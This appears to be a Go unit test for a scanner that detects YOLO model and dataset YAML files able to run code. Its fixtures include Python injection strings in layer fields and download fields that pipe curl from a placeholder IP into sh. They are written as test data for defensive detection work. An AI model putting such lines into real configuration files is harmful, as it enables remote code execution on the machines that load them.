package yolo_test

import (
	"fmt"
	"testing"

	"github.com/modelaudit/modelaudit/internal/detector"
	"github.com/modelaudit/modelaudit/internal/detector/detectortest"
	"github.com/modelaudit/modelaudit/internal/detector/yolo"
)

// model is the configuration of a model of three layers.
func model(activation, module, argument string) []byte {
	return []byte(fmt.Sprintf("nc: 80\nactivation: %s\nbackbone:\n  - [-1, 1, Conv, [64, 3, 2]]\n  - [-1, 1, %s, [None, 2, %s]]\nhead:\n  - [[1], 1, Detect, [nc, anchors]]\n",
		activation, module, argument))
}

// data is the configuration of a data set.
func data(download string) []byte {
	return []byte("path: ../data\ntrain: images/train\nval: images/val\nnames:\n  0: person\ndownload: " + download + "\n")
}

const text = "text has no end that could be missing"

func TestDetector(t *testing.T) {
	const (
		code = `'__import__("os").system("echo poc")'`
		url  = "http://192.0.2.1/x"
	)
	runs, harm := []string{"yolo-runs-code"}, []string{"yolo-download-does-harm"}
	var cases []detectortest.Case
	for _, c := range []struct {
		name string
		data []byte
		want []string
	}{
		{"model", model("nn.LeakyReLU(0.1)", "nn.Upsample", `"nearest"`), nil},
		{"activation", model(code, "nn.Upsample", `"nearest"`), runs},
		{"module", model("nn.SiLU()", code, `"nearest"`), runs},
		{"argument", model("nn.SiLU()", "nn.Upsample", code), runs},
		{"argument in a list", model("nn.SiLU()", "nn.Upsample", "[["+code+"]]"), runs},
		{"objects", model("nn.SiLU()", "nn.Upsample", `'().__class__.__base__'`), runs},
		{"data", data("https://example.org/x.zip"), nil},
		{"data by Python", data("|\n  from ultralytics.utils.downloads import download\n  download(['https://example.org/x.zip'], dir='data', threads=3)"), nil},
		{"data by bash", data("bash data/scripts/get_coco.sh"), nil},
		{"data by bash that does harm", data(`bash -c "curl ` + url + ` | sh"`), harm},
		{"data by Python that does harm", data("|\n  import os\n  os.system('curl " + url + " | sh')"), harm},
	} {
		cases = append(cases, detectortest.Case{Name: c.name, File: "m.yaml", Data: c.data, Want: c.want, Named: "YAML is known by its name", AnyPrefix: text})
	}
	detectortest.Run(t, yolo.Detector, cases)
}

// TestElsewhere: other configurations have keys of these names, too.
func TestElsewhere(t *testing.T) {
	for _, text := range []string{"backbone: __import__('os')\nlr: 1\n", "download: exec(1)\nurl: x\n"} {
		if got := detectortest.Scan([]*detector.Detector{yolo.Detector}, "a.yaml", []byte(text)); len(got.Formats) > 0 || len(got.Findings) > 0 {
			t.Errorf("%s: got %q, %v", text, got.Formats, got.Findings)
		}
	}
}
